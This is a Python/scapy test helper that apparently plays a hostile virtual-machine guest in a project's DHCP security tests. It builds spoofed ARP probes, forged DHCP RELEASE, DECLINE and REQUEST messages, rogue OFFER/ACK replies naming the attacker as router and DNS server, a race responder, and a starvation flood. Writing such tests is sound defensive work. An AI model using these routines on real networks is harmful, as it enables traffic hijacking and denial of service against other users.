#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
# A hostile guest's DHCP and ARP tricks for tests/system/hostile_dhcp_*.sh
# (scapy; run inside the attacker's namespace, frames go out of eth0).
#   arp-probe MAC IP                   RFC 5227 probe with someone else's MAC
#   request SMAC CHADDR IP SERVER      INIT-REBOOT and SELECTING REQUESTs for IP
#   release SMAC SRC CHADDR CIADDR SERVER GWMAC
#   decline SMAC CHADDR IP SERVER
#   select SMAC SRC CHADDR IP SERVER   SELECTING REQUEST from SRC (own address)
#   rogue SMAC SRC DMAC DST ROUTER     OFFER+ACK from source ports 68, 1067, 0,
#                                      and a BOOTREPLY to port 67
#   responder SMAC SRC ROUTER VICTIM SECONDS READYFILE
#                                      answer VICTIM's DISCOVER/REQUEST first
#   flood N SERVER FIRST SMAC rd|dr    N REQUESTs for FIRST+i and N DISCOVERs,
#                                      random chaddrs, from SMAC or "random" (= chaddr)
import os, random, sys, time

from scapy.all import (ARP, BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf,
                       sendp)

conf.verb = 0
IFACE = "eth0"
BCAST = "ff:ff:ff:ff:ff:ff"


def chaddr(mac):
    return bytes(int(x, 16) for x in mac.split(":")) + b"\0" * 10


def dhcp_frame(smac, src, dmac, dst, ch, opts, ciaddr="0.0.0.0", sport=68, dport=67,
               op=1, xid=None, yiaddr="0.0.0.0"):
    return (Ether(src=smac, dst=dmac) / IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) /
            BOOTP(op=op, chaddr=chaddr(ch), ciaddr=ciaddr, yiaddr=yiaddr,
                  xid=xid if xid is not None else random.getrandbits(32), flags=0x8000) /
            DHCP(options=opts + ["end"]))


def send(frames):
    sendp(frames, iface=IFACE)


def arp_probe(mac, ip):
    send([Ether(src=mac, dst=BCAST) / ARP(op=1, hwsrc=mac, psrc="0.0.0.0", pdst=ip)] * 3)


def request(smac, ch, ip, server):
    send([dhcp_frame(smac, "0.0.0.0", BCAST, "255.255.255.255", ch,
                     [("message-type", "request"), ("requested_addr", ip)]),
          dhcp_frame(smac, "0.0.0.0", BCAST, "255.255.255.255", ch,
                     [("message-type", "request"), ("requested_addr", ip),
                      ("server_id", server)])])


def release(smac, src, ch, ciaddr, server, gwmac):
    send([dhcp_frame(smac, src, gwmac, server, ch,
                     [("message-type", "release"), ("server_id", server)], ciaddr=ciaddr)])


def decline(smac, ch, ip, server):
    send([dhcp_frame(smac, "0.0.0.0", BCAST, "255.255.255.255", ch,
                     [("message-type", "decline"), ("requested_addr", ip),
                      ("server_id", server)])])


def select(smac, src, ch, ip, server):
    send([dhcp_frame(smac, src, BCAST, "255.255.255.255", ch,
                     [("message-type", "request"), ("requested_addr", ip),
                      ("server_id", server)])])


def server_opts(kind, src, router):
    return [("message-type", kind), ("server_id", src), ("lease_time", 86400),
            ("subnet_mask", "255.255.255.0"), ("router", router), ("name_server", router)]


def rogue(smac, src, dmac, dst, router):
    frames = []
    for sport in (68, 1067, 0):
        for kind in ("offer", "ack"):
            frames.append(dhcp_frame(smac, src, dmac, dst, dmac if dmac != BCAST else smac,
                                     server_opts(kind, src, router), sport=sport, dport=68,
                                     op=2, yiaddr="192.168.122.77"))
    # a BOOTREPLY to the server port (a relay's reply path)
    frames.append(dhcp_frame(smac, src, dmac, dst, smac, server_opts("ack", src, router),
                             sport=68, dport=67, op=2, yiaddr="192.168.122.77"))
    send(frames)


def responder(smac, src, router, victim, seconds, ready):
    """Answer the victim's DISCOVER with an OFFER and its REQUEST with an
    ACK, from source port 68: faster than any real server."""
    def answer(p):
        if BOOTP not in p or p[BOOTP].op != 1 or p[Ether].src.lower() != victim.lower():
            return
        mtype = dict(o for o in p[DHCP].options if isinstance(o, tuple)).get("message-type")
        kind = {1: "offer", 3: "ack"}.get(mtype)
        if kind:
            send([dhcp_frame(smac, src, BCAST, "255.255.255.255", victim,
                             server_opts(kind, src, router), sport=68, dport=68, op=2,
                             xid=p[BOOTP].xid, yiaddr="192.168.122.77")])
    s = AsyncSniffer(iface=IFACE, filter="udp dst port 67", prn=answer, store=False)
    s.start()
    time.sleep(0.5)
    open(ready, "w").close()
    time.sleep(float(seconds))
    s.stop()


def flood(n, server, first, smac, order):
    """n REQUESTs (SELECTING, for FIRST+i) and n DISCOVERs with random
    chaddrs, from smac (or, "random", from each chaddr); order "rd" sends
    the REQUESTs first, "dr" the DISCOVERs."""
    def rnd():
        return "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.getrandbits(8) for _ in range(5))
    base = [int(x) for x in first.split(".")]
    req, disc = [], []
    for i in range(n):
        m, ip = rnd(), "%d.%d.%d.%d" % (base[0], base[1], base[2],
                                        base[3] + i % (254 - base[3]))
        req.append(dhcp_frame(m if smac == "random" else smac, "0.0.0.0", BCAST,
                              "255.255.255.255", m,
                              [("message-type", "request"), ("requested_addr", ip),
                               ("server_id", server)]))
        m = rnd()
        disc.append(dhcp_frame(m if smac == "random" else smac, "0.0.0.0", BCAST,
                               "255.255.255.255", m, [("message-type", "discover")]))
    send(req + disc if order == "rd" else disc + req)


cmds = {"arp-probe": arp_probe, "request": request, "release": release, "decline": decline,
        "select": select, "rogue": rogue, "responder": responder,
        "flood": lambda n, *a: flood(int(n), *a)}
cmds[sys.argv[1]](*sys.argv[2:])
